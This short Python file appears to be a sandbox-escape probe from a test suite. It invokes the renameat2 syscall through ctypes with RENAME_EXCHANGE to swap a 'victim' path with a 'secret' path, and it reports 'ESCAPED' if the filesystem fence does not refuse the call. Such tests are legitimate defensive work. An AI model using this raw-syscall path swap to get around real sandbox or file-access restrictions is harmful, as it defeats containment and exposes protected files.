# Exchange two files in one step.
# source: rename(2), RENAME_EXCHANGE
# expect: refused
# without the fence: escapes
# ruff: noqa

import ctypes, os

def attack(world):
    number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
    call = ctypes.CDLL(None).syscall
    names = world["victim"].encode(), world["secret"].encode()
    if call(number, -100, names[0], -100, names[1], 2) == 0:
        call(number, -100, names[0], -100, names[1], 2)
        return "ESCAPED"
